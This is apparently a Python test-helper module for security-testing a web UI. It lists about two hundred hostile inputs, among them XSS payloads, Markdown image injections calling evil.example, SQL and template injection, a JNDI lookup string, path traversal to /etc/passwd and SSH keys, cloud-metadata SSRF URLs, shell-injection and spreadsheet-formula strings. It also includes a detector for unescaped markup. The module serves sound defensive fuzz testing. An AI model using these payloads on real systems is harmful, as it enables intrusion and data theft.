"""Two hundred strings that an outside tester types into every field, and who reads what a page says for signs that one of them worked.

Most of them are short, so that they fit the shortest field. Those that would run something call `hacked` or a dialog, or ask
evil.example for something, which a test can see. Knows no page.
"""

import re
from html.parser import HTMLParser

FAR = "https://evil.example"
RUNS = [  # markup that runs or fetches something where it is not escaped
    "<script>hacked=1</script>",
    f"<script src={FAR}/1.js></script>",
    "<SCRIPT>alert(1)</SCRIPT>",
    "<scr<script>ipt>hacked=1</scr</script>ipt>",
    f'<img src="{FAR}/2.png" onerror="hacked=1">',
    "<img src=x onerror=alert(1)>",
    "<img src=/hacked.png onerror=hacked=1>",
    f"<img srcset='{FAR}/3.png 2x'>",
    "<svg onload=alert(1)>",
    "<svg><script>hacked=1</script></svg>",
    f"<svg><image href='{FAR}/4.svg'/></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><foreignObject><img src=x onerror=hacked=1></foreignObject></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=hacked=1>",
    f"<iframe src='{FAR}/5'></iframe>",
    '<iframe srcdoc="<script>parent.hacked=1</script>"></iframe>',
    "<iframe src=javascript:alert(1)>",
    f"<object data='{FAR}/6'></object>",
    f"<embed src='{FAR}/7'>",
    f"<link rel=stylesheet href='{FAR}/8.css'>",
    f"<link rel=prefetch href='{FAR}/9'>",
    f"<style>@import '{FAR}/10.css';</style>",
    f"<style>*{{background:url({FAR}/11.png)}}</style>",
    "<style>body{display:none}</style>",
    f'<div style="background:url({FAR}/12.png)">x</div>',
    '<div style="position:fixed;inset:0;z-index:9999">x</div>',
    f"<meta http-equiv=refresh content='0;url={FAR}/13'>",
    f"<base href='{FAR}/'>",
    f"<form action='{FAR}/14'><button>Save</button></form>",
    "<button formaction=javascript:alert(1)>x</button>",
    "<input autofocus onfocus=alert(1)>",
    "<select autofocus onfocus=hacked=1>",
    "<textarea autofocus onfocus=hacked=1>",
    "<details open ontoggle=alert(1)>x</details>",
    "<body onload=alert(1)>",
    "<marquee onstart=alert(1)>x</marquee>",
    f"<video poster='{FAR}/15.png'><source onerror=hacked=1></video>",
    f"<audio src='{FAR}/16.mp3' autoplay onerror=hacked=1>",
    "<a href=javascript:alert(1) autofocus onfocus=alert(1)>x</a>",
    "<a href='data:text/html,<script>hacked=1</script>'>x</a>",
    '"><script>hacked=1</script>',
    "'><img src=x onerror=hacked=1>",
    '" onmouseover="hacked=1" autofocus onfocus="hacked=1" x="',
    "' onfocus='hacked=1' autofocus='",
    "`><img src=x onerror=hacked=1>",
    "--><script>hacked=1</script><!--",
    "]]><script>hacked=1</script>",
    "</title><script>hacked=1</script>",
    "</textarea><script>hacked=1</script>",
    "</style><script>hacked=1</script>",
    "</script><script>hacked=1</script>",
    "';hacked=1;//",
    '";hacked=1;//',
    "${hacked=1}`;hacked=1//",
    "&lt;script&gt;hacked=1&lt;/script&gt;",
    "&#60;img src=x onerror=hacked=1&#62;",
    "\\u003cimg src=x onerror=hacked=1\\u003e",
    "%3Cscript%3Ehacked=1%3C/script%3E",
    "<x contenteditable onblur=hacked=1 autofocus tabindex=1>",
    "<template><script>hacked=1</script></template>",
]
MARKDOWN = [  # what Markdown, and Streamlit beside it, would make an image, a link, a colour, a formula, an icon of
    f"![x]({FAR}/20.png)",
    f"![x][1]\n\n[1]: {FAR}/21.png",
    f"[x]({FAR}/22)",
    "[x](javascript:alert(1))",
    "[x](data:text/html,<script>hacked=1</script>)",
    f"<{FAR}/23>",
    f"[![x]({FAR}/24.png)]({FAR}/25)",
    "![x](//evil.example/26.png)",
    "![x](/hacked.png)",
    f":red[![x]({FAR}/27.png)]",
    f":blue-background[![x]({FAR}/28.png)]",
    ":red[hot] :material/delete: :streamlit: :small[x]",
    "$\\href{javascript:alert(1)}{x}$",
    f"$\\includegraphics{{{FAR}/29.png}}$",
    "$$\\def\\a{\\a\\a}\\a$$",
    "$x^2$ and $5 and $10",
    "```\n</code><script>hacked=1</script>",
    "`code` **bold** _it_ ~~out~~",
    "# A heading\n---\n> quoted",
    "- [ ] a\n- [x] b\n1. c",
    f"| a | b |\n|--|--|\n| ![x]({FAR}/30.png) | c |",
    f"[^1]: ![x]({FAR}/31.png)\n\ntext[^1]",
    "\\[x\\](y) \\*no\\*",
    "***" * 20,
    "[" * 60,
    "![" * 30,
    "<!-- a remark",
    "a  \nb\\\nc",
    "www.evil.example/32 a@evil.example",
    ":" * 70,
]
TEMPLATES = [  # what fills in templates, formats and queries would take for its own
    "{}",
    "{0}",
    "{name}",
    "{n:,}",
    "{texts} {label} {old}",
    "{0.__class__.__mro__}",
    "{self.__init__.__globals__}",
    "{!r:>99999999}",
    "{{7*7}}",
    "{{config.items()}}",
    "{% for x in range(10**9) %}{% endfor %}",
    "${7*7}",
    "${jndi:ldap://evil.example/a}",
    "#{7*7}",
    "<%= 7*7 %>",
    "%s%s%s%n",
    "%(name)s",
    "%d %f %% %",
    "{unclosed",
    "}closed{",
    "__import__('os').system('id')",
    "'; DROP TABLE projects; --",
    "' OR '1'='1",
    "1; SELECT pg_sleep(9)--",
    '" UNION SELECT * FROM people --',
    "%' AND 1=1 --",
    "%",
    "_%_",
    "\\",
    "\\\\' --",
    "'",
    '"',
    "`",
    '{"$gt": ""}',
    '{"a": [1, {"b": null}]}',
    "*)(uid=*))(|(uid=*",
    "!!python/object/apply:os.system ['id']",
    "&a [*a, *a, *a]",
    "NEAR(a, b) OR MATCH *",
    "key: value\n- list\n? x",
]
PLACES = [  # what files, addresses, programs and tables would take for theirs
    "../../../../etc/passwd",
    "..\\..\\windows\\win.ini",
    "/etc/passwd",
    "~/.ssh/id_rsa",
    "C:\\Windows\\system32",
    "\\\\evil.example\\share",
    "file:///etc/passwd",
    "CON",
    "nul.txt",
    ".",
    "..",
    "/",
    "a/b/../../c",
    "a" * 300,
    "name.gguf",
    "evil/model",
    "/tmp/model@99",
    "http://169.254.169.254/latest/meta-data",
    "http://127.0.0.1:1/v1",
    "http://[::1]:1/",
    "http://[::ffff:7f00:1",
    "http://a:b@evil.example:99999/",
    "https://evil.example:x/v1",
    "//evil.example",
    "javascript:alert(1)",
    "data:text/html;base64,PHNjcmlwdD4=",
    "gopher://127.0.0.1:6379/_x",
    "$(touch /tmp/hacked)",
    "`touch /tmp/hacked`",
    "; touch /tmp/hacked",
    "| touch /tmp/hacked &",
    "-rf --help",
    "X-A: b\r\nSet-Cookie: c=d",
    "a\r\n\r\n<script>hacked=1</script>",
    '=HYPERLINK("https://evil.example/40","x")',
    "=cmd|'/c calc'!A1",
    "+1+1",
    "-1+1",
    "@SUM(1,2)",
    "\t=1+1",
]
LETTERS = [  # letters, numbers and patterns that trip what reads them
    "\x00",
    "a\x00b",
    "\x07\x1b[31mred\x1b[0m\x7f",
    "\u202egnp.exe\u202c",
    "\u2066a\u2069\u200f",
    "a\u200bb\ufeffc",
    "\u00ad\u034f\u180e",
    "\ufffe\uffff\ufffd",
    "e\u0301\u0302\u0303" * 12,
    "\u0300" * 60,
    "\U0001f468\u200d\U0001f469\u200d\U0001f467",
    "\U0001f1e9" * 9,
    "\ufdfa" * 30,
    "هذا الفيلم",
    "ℍ𝕒𝕔𝕜 ＜script＞",
    "İıſßﬃ",
    "\u2028line\u2029break\x85",
    "\t\n\x0b\x0c\r",
    " ",
    "\u3000",
    "-1",
    "1e309",
    "NaN",
    "Infinity",
    "0x10",
    "９９９",
    "1" * 60,
    "null",
    "(a+)+$",
    "[",
]
STRINGS = [*RUNS, *MARKDOWN, *TEMPLATES, *PLACES, *LETTERS]


def at(field: int, turn: int) -> str:
    """Which string goes into a field at a turn: two hundred turns put every one into each, and no two fields get the same at once."""
    return STRINGS[(turn + 37 * field) % len(STRINGS)]


class _Worked(HTMLParser):
    """Finds tags and attributes of STRINGS in HTML, where they were not escaped."""

    def __init__(self) -> None:
        super().__init__()
        self.found: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        for name, value in attrs:
            if name.startswith("on") or re.search(r"hacked|alert\(|javascript:|data:text", value or "") and name != "value":
                self.found.append(f"<{tag} {name}={value!r}>")
        if tag in ("script", "iframe", "object", "embed", "link", "meta", "base", "form", "marquee", "template", "foreignobject"):
            self.found.append(f"<{tag}>")


def worked(html: str) -> list[str]:
    """What of a string stands in HTML as markup, not as text."""
    parser = _Worked()
    parser.feed(html)
    return parser.found


def linked(markdown: str) -> list[str]:
    """What of a string stands in Markdown as an image or a link."""
    return re.findall(r"(?<!\\)\]\((?:https?:)?//evil[^)]*|(?<!\\)\]\((?:javascript|data):[^)]*|(?<!\\)\]\(/hacked[^)]*", markdown)
